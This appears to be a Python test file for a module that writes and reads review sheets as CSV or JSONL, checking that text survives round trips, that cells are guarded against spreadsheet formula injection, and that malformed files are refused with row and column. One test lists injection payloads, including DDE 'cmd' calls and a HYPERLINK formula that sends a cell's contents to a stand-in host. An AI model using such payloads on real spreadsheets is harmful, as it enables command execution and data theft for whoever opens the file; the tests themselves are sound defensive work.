"""Sheets survive spreadsheets: every character comes back, nothing runs as a formula, every mistake has its row and column."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alas_assets.review.sheet import Problems, SheetError, columns_of, guard, read_sheet, unguard, write_sheet

COLUMNS = ("item", "text")
TEXTS = st.text(st.characters(codec="utf-8"), max_size=60) | st.text("'=+-@ \t\r\n\"3,;x|", max_size=12)
"""Anything, and what is made of the characters that spreadsheets treat as special."""


def written(tmp_path: Path, *texts: str, suffix: str = "csv") -> Path:
    path = tmp_path / f"sheet.{suffix}"
    path.unlink(missing_ok=True)
    write_sheet(path, COLUMNS, [{"item": f"i{i}", "text": text} for i, text in enumerate(texts)])
    return path


@given(st.lists(TEXTS, min_size=1, max_size=5), st.sampled_from(["csv", "jsonl"]))
def test_every_text_comes_back_as_it_was_but_for_spaces_at_its_ends(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str], suffix: str
) -> None:
    lines = read_sheet(written(tmp_path_factory.mktemp("s"), *texts, suffix=suffix), COLUMNS)
    assert [line.cells["text"] for line in lines] == [text.strip() for text in texts]
    assert [line.cells["item"] for line in lines] == [f"i{i}" for i in range(len(texts))]


@given(TEXTS)
def test_no_cell_begins_with_what_a_spreadsheet_runs_or_rewrites(text: str) -> None:
    shown = guard(text)
    assert unguard(shown) == text
    assert not shown.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", *"0123456789"))


@pytest.mark.parametrize(
    "text",
    [
        "October 2026",
        "oct-26",
        "Sept. 5",
        "MAY 1, 2026",
        "june3",
        "True",
        "false ",
        "'True",
        "True unless -X is given",
        ".5",
        "(5)",
        "$1.50",
    ],
)
def test_what_a_spreadsheet_takes_for_a_date_a_number_or_a_truth_value_is_guarded_and_comes_back(text: str) -> None:
    assert guard(text) == f"'{text}"
    assert unguard(f"'{text}") == text


@pytest.mark.parametrize(
    "text", ["Maybe", "marched 3 times", "truethy", "Octet 5", "(soft) deprecated", ".NET 8", "Novák 5", "Python 3.15"]
)
def test_words_that_only_begin_like_a_date_stay_as_they_are(text: str) -> None:
    assert guard(text) == text


def test_a_guarded_date_that_somebody_edits_comes_back_without_the_apostrophe() -> None:
    assert unguard(guard("October 2026").replace(" 2026", "")) == "October"


@pytest.mark.parametrize("text", ["'True'", "'May'", "'dec'"])
def test_a_word_that_somebody_typed_in_quotes_keeps_both(text: str) -> None:
    assert unguard(text) == text
    assert unguard(guard(text)) == text


@pytest.mark.security("formula injection")
@pytest.mark.parametrize(
    "payload",
    [
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.test?x="&A1,"click")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "'=1+1",
        "＝1+1",
        '";=1+1;"',
        "ok;=cmd|' /C calc'!A0;",
        'ok; "=1+1',
        "ok;'@SUM(1)",
        "ok\t-1+1",
        "ok\n+1+1",
        "ok;\t\uff1d1",
    ],
)
def test_a_formula_that_a_model_wrote_is_text_in_the_file(tmp_path: Path, payload: str) -> None:
    path = written(tmp_path, payload)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")) for cell in row]
    assert cells[:3] == ["item", "text", "i0"]
    assert len(cells) == 4
    assert not cells[3].startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", " "))
    assert read_sheet(path, COLUMNS)[0].cells["text"] == payload.strip()
    for separator in ";\t":
        for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=separator):
            assert not any(re.match(r"""[\s"]*[=+\-@|%＝]""", cell) for cell in row)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("text", ["\t" * 200_000, "a" + ";'" * 100_000 + "x", "\n'" * 100_000 + "="])
def test_a_long_cell_of_signs_is_guarded_and_comes_back(text: str) -> None:
    assert unguard(guard(text)) == text


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("utf-8", ","), ("utf-8-sig", ";"), ("utf-16", "\t"), ("utf-8", "\t")],
)
def test_what_spreadsheets_save_in_other_countries_is_read(tmp_path: Path, encoding: str, delimiter: str) -> None:
    path = tmp_path / "saved.csv"
    rows = [["text", "item", "mine"], ['two\nlines, and; more "quoted"', "i0", "x"], ["", "", ""], ["'-1", "i1"]]
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    lines = read_sheet(path, COLUMNS)
    assert [dict(line.cells) for line in lines] == [
        {"text": 'two\nlines, and; more "quoted"', "item": "i0", "mine": "x"},
        {"text": "-1", "item": "i1", "mine": ""},
    ]
    assert [line.where for line in lines] == ["row 2", "row 4"]


@given(st.binary(max_size=300), st.sampled_from(["csv", "jsonl"]))
def test_any_bytes_are_read_or_refused_with_the_files_name(tmp_path_factory: pytest.TempPathFactory, raw: bytes, suffix: str) -> None:
    path = tmp_path_factory.mktemp("s") / f"any.{suffix}"
    path.write_bytes(raw)
    try:
        read_sheet(path, COLUMNS)
    except SheetError as error:
        assert str(path) in str(error)  # noqa: PT017 - either outcome is right


@pytest.mark.parametrize(
    ("name", "raw", "message"),
    [
        ("a.csv", b"item,label\r\ni0,x\r\n", "column text is missing"),
        ("a.csv", b"item,item,text\r\n", "row 1: column item stands there twice"),
        ("a.csv", b"item,text\r\ni0,a,b\r\n", "row 2: 3 cells stand under 2 columns"),
        ("a.csv", b'item,text\r\ni0,"a\r\n', "row 2"),
        ("a.csv", b"item,text\r\ni0,\xe4\r\n", "UTF-8"),
        ("a.jsonl", b'{"item": "i0", "text": "a"}\n{"item"\n', "row 2: not a line of JSON"),
        ("a.jsonl", b'{"item": "i0", "text": 3}\n', "row 1, column text: must be a text"),
        ("a.jsonl", b'{"item": "i0", "text": "\\ud800"}\n', "row 1, column text: holds half a character"),
        ("a.jsonl", b"[1]\n", "row 1: not a JSON object"),
        ("a.xlsx", b"", "must end in .csv or .jsonl"),
    ],
)
def test_a_file_that_is_no_such_table_is_refused_with_the_place(tmp_path: Path, name: str, raw: bytes, message: str) -> None:
    path = tmp_path / name
    path.write_bytes(raw)
    with pytest.raises(SheetError) as caught:
        read_sheet(path, COLUMNS)
    assert message in str(caught.value)
    assert str(path) in str(caught.value)


def test_a_file_that_is_not_there_or_is_there_already_is_named(tmp_path: Path) -> None:
    with pytest.raises(SheetError, match=r"nosuch\.csv: No such file"):
        read_sheet(tmp_path / "nosuch.csv", COLUMNS)
    path = written(tmp_path, "x")
    before = path.read_bytes()
    with pytest.raises(SheetError, match="exists already"):
        write_sheet(path, COLUMNS, [])
    assert path.read_bytes() == before
    assert columns_of(path) == list(COLUMNS)


def test_all_mistakes_are_told_at_once_up_to_a_limit() -> None:
    problems = Problems(Path("f.csv"))
    problems.refuse()
    for row in range(30):
        problems.add(f"row {row}", "label", "is wrong")
    with pytest.raises(SheetError) as caught:
        problems.refuse()
    lines = str(caught.value).splitlines()
    assert lines[0] == "f.csv: row 0, column label: is wrong"
    assert lines[-2:] == ["... and 10 more", "nothing was imported"]
